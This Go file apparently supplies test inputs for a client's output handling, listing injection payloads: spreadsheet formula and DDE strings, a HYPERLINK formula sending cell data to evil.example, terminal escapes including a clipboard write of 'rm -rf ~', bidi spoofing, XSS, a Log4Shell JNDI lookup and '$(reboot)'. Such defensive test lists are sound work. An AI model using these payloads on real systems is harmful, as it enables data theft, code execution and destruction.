package client

// payloads are texts that try to be more than text somewhere: in a spreadsheet, on
// a terminal, in a line-oriented file, in a page, in a format string.
func payloads() []string {
	return []string{
		// Formulas, plain and dressed up.
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, `=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?x="&A1,"ok")`, `=IMPORTXML("https://evil.example","//a")`,
		`=DDE("cmd";"/C calc";"x")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(cmd|' /C calc'!A0)`, `=WEBSERVICE("https://evil.example")`,
		"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫a",
		"x;=1+1", "x; =1+1;", "x;;@SUM(1)", `";=1+1;"`, `",=1+1,"`, `"=1+1"`, `""=1+1`, "a\"\r\n=1+1", "a\n=1+1", "a\r\n=1+1,b", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
		// Separators and quotes.
		`a,b`, `a;b`, `a"b`, `"`, `""`, `a""b`, "a\tb", `a|b`, `\`, `\"`, "'=1+1", "'",
		// Terminals.
		"\x1b[2J", "\x1b]52;c;cm0gLXJmIH4K\x07", "\x1b]8;;https://evil.example\x1b\\ok", "\u009b2J", "\u009d52;c;x\u009c", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b]0;x\x07",
		"\x9b2J", "a\rsally: granted", "a\nsally: granted", "a\b\b\bb", "a\x00b", "a\x7fb", "\x0e\x0f", "a\u2028b", "a\u2029b", "a\x85b",
		// Reading direction and what takes no room.
		"\u202etxt.exe", "\u2066a\u2069", "\u202da\u202c", "\u200fa", "a\u200bb\u200dc\ufeffd", "a\u00adb", "a\U000e0061b", "a\u3164b", "a\ufe0fb", "a\ue000b", "a\ufdd0b",
		// Pages, logs, format strings, shells.
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `%s%s%s%n`, `%!d(string=x)`, `{{.}}`, `${jndi:ldap://evil.example}`, `$(reboot)`, "`reboot`",
		`","ok":true,"x":"`, `{"v":"sally/v1"}`, "a\xff\xfeb", "\xed\xa0\x80",
	}
}
